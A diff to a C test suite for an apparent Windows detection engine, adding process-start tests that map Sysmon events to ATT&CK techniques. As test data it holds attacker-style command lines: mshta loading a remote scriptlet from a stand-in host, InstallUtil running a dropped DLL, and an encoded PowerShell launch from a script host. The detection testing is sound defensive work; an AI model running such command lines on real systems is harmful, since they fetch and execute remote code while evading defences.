@@ -208,6 +208,55 @@ static void test_secrets_pipes_accounts(det *x)
     CHECK_INT(n_got, 0);
 }
 
+static void start(det *x, const char *image, const char *cmd, const char *parent, const char *parent_cmd)
+{
+    ts_event ev;
+    win(&ev, "windows.sysmon", 1, "WS1", T0);
+    ev.process = ts_str_c(image);
+    ev.command_line = ts_str_c(cmd);
+    ev.parent_process = ts_str_c(parent);
+    set_fields(&ev, (const char *[]){"Image", image, "CommandLine", cmd, "ParentCommandLine", parent_cmd, NULL});
+    feed(x, &ev);
+}
+
+static void test_process_starts(det *x)
+{
+    start(x, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe",
+          "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /u c:\\ProgramData\\g.dll",
+          "C:\\Windows\\System32\\cmd.exe", "");
+    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1218.004"));
+    drop_all();
+    start(x, "C:\\Windows\\System32\\mshta.exe", "mshta.exe javascript:a=GetObject('script:https://x.example/a.sct')",
+          "C:\\Windows\\System32\\cmd.exe", "");
+    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1218.005"));
+    drop_all();
+    /* The same programs on Windows' own files; a program not in the table. */
+    start(x, "C:\\Windows\\System32\\rundll32.exe",
+          "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009} -Embedding",
+          "C:\\Windows\\System32\\svchost.exe", "");
+    start(x, "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\System32\\msiexec.exe /V",
+          "C:\\Windows\\System32\\services.exe", "");
+    start(x, "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\bob\\a.txt",
+          "C:\\Windows\\explorer.exe", "");
+    CHECK_INT(n_got, 0);
+
+    /* A script host starting PowerShell: the script's language from its name. */
+    start(x, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -noP -enc AAAA",
+          "C:\\Windows\\System32\\wscript.exe", "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\p\\Desktop\\launcher.vbs\"");
+    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1059.005"));
+    drop_all();
+    start(x, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami", "C:\\Windows\\System32\\cscript.exe",
+          "cscript.exe //nologo C:\\Users\\p\\x.jse");
+    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1059.007"));
+    drop_all();
+    /* A logon script; a script host starting something that is not a shell. */
+    start(x, "C:\\Windows\\System32\\cmd.exe", "cmd /c net use", "C:\\Windows\\System32\\wscript.exe",
+          "wscript.exe \\\\corp\\NETLOGON\\logon.vbs");
+    start(x, "C:\\Windows\\System32\\notepad.exe", "notepad", "C:\\Windows\\System32\\wscript.exe",
+          "wscript.exe C:\\Users\\p\\a.vbs");
+    CHECK_INT(n_got, 0);
+}
+
 /* Real recordings (OTRF Security Datasets): the step is found, and the lab's background
  * raises nothing of this detector's that is not the step. */
 static void test_otrf(const ts_config *cfg)
@@ -227,9 +276,10 @@ static void test_otrf(const ts_config *cfg)
         {"credential_access/empire_powerdump_sam_access.json.gz", "T1003.002", 1},
         {"lateral_movement/mimikatz_CVE-2020-1472_Unauthenticated_NetrServerAuthenticate2.json.gz", "T1210", 0},
         {"lateral_movement/covenant_sharpsc_query_dcerpc_smb_svcctl.json.gz", "T1021.002", 0},
+        {"defense_evasion/covenant_installutil.json.gz", "T1218.004", 0},
+        {"execution/empire_launcher_vbs.json.gz", "T1059", 0},
         /* background only, for this detector */
         {"discovery/cmd_seatbelt_group_user.json.gz", NULL, 0},
-        {"execution/empire_launcher_vbs.json.gz", NULL, 0},
     };
     for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
         char path[512];
@@ -260,6 +310,7 @@ int main(void)
     test_registry(&x);
     test_logging_and_accounts(&x);
     test_secrets_pipes_accounts(&x);
+    test_process_starts(&x);
     det_close(&x);
     test_otrf(cfg);
     ts_config_free(cfg);
